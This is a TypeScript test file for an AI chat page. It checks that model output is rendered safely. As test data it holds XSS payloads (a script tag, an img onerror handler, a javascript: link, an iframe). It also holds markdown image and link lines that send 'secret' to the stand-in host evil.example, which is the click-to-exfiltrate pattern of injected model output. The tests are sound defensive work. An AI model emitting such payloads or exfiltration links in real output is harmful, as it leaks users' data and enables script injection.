import { screen, waitFor, within } from '@testing-library/react';
import { answer, setupChatPage } from '../../__testUtils__/chatPage';
import { SOURCES } from '../../__testUtils__/fixtures';

const { renderChat, ask } = setupChatPage();

describe('ChatPage rendering model output', () => {
  /** Streams one answer with the given sources and waits until it is complete. */
  async function streamAnswer(text: string, sources = SOURCES) {
    const { stream } = await ask('q');
    stream.pushEvent({
      type: 'conversation',
      data: { conversationId: 'c1', messageId: 'm1' },
    });
    stream.pushEvent({ type: 'sources', data: { sources } });
    stream.pushEvent({ type: 'delta', data: { text } });
    stream.pushEvent({ type: 'done', data: { messageId: 'm1' } });
    stream.close();
    await screen.findByRole('button', { name: 'Good answer' });
  }

  it('never turns HTML or images in model output into elements', async () => {
    const win = window as unknown as { __xss?: number };
    await renderChat();
    await streamAnswer(
      'Hi <script>window.__xss=1</script> and <img src=x onerror="window.__xss=1">\n\n' +
        '![tracker](https://evil.example/leak?q=secret) [click](javascript:window.__xss=1)\n\n' +
        '<iframe src="https://evil.example"></iframe>',
      [],
    );

    expect(answer()).toHaveTextContent('<script>window.__xss=1</script>');
    expect(answer()).toHaveTextContent('<img src=x onerror="window.__xss=1">');
    const page = document.body;
    expect(page.querySelector('script, img, iframe')).toBeNull();
    expect(page.querySelector('[onerror]')).toBeNull();
    expect(page.querySelector('a[href^="javascript:"]')).toBeNull();
    // The image is never loaded; its host is no source's, so it is not even a link.
    expect(page.querySelector('a[href*="evil.example"]')).toBeNull();
    expect(answer()).toHaveTextContent('tracker (https://evil.example/…)');
    expect(win.__xss).toBeUndefined();
  });

  it('Model output can render click-to-exfiltrate links: a link to a host no source has shows as text naming the host', async () => {
    await renderChat();
    await streamAnswer(
      '[click](https://evil.example/x?d=secret), ![logo](https://evil.example/p.png?d=secret), ' +
        'https://evil.example/auto?d=secret and the [README](https://github.example/acme/payments/blob/main/README.md?plain=1).',
    );

    expect(document.querySelector('a[href*="evil.example"]')).toBeNull();
    expect(answer()).toHaveTextContent(
      'click (https://evil.example/…), logo (https://evil.example/…), https://evil.example/auto?d=secret and the README.',
    );
    // The host of a source (github.example/acme/payments#readme) stays clickable.
    expect(
      within(answer()).getByRole('link', { name: 'README' }),
    ).toHaveAttribute(
      'href',
      'https://github.example/acme/payments/blob/main/README.md?plain=1',
    );
  });

  it('Model output can render click-to-exfiltrate links: hosts on aiAssistant.chat.linkAllowList stay clickable', async () => {
    await renderChat({
      aiAssistant: {
        chat: { linkAllowList: ['kubernetes.example', '*.wiki.example'] },
      },
    });
    await streamAnswer(
      'See [the docs](https://kubernetes.example/docs?v=1), [the wiki](https://team.wiki.example/page) ' +
        'and [not this](https://wiki.example.evil.example/page).',
    );

    expect(
      within(answer()).getByRole('link', { name: 'the docs' }),
    ).toHaveAttribute('href', 'https://kubernetes.example/docs?v=1');
    expect(
      within(answer()).getByRole('link', { name: 'the wiki' }),
    ).toHaveAttribute('href', 'https://team.wiki.example/page');
    expect(
      within(answer()).queryByRole('link', { name: 'not this' }),
    ).toBeNull();
    expect(answer()).toHaveTextContent(
      'not this (https://wiki.example.evil.example/…)',
    );
  });

  it('renders GFM tables and fenced code', async () => {
    await renderChat();
    await streamAnswer(
      '| Service | Owner |\n| --- | --- |\n| payments | team-a |\n\n```ts\nconst x = 1;\n```',
    );
    const table = within(answer()).getByRole('table');
    expect(
      within(table).getByRole('columnheader', { name: 'Owner' }),
    ).toBeInTheDocument();
    expect(
      within(table).getByRole('cell', { name: 'team-a' }),
    ).toBeInTheDocument();
    // Highlighted: the keyword is a token of its own, colored by the theme's code style.
    const keyword = await waitFor(() =>
      within(answer().querySelector('pre')!).getByText('const'),
    );
    expect(keyword.getAttribute('style')).toMatch(/color/);
    expect(answer().querySelector('pre')).toHaveTextContent('const x = 1;');
  });
});
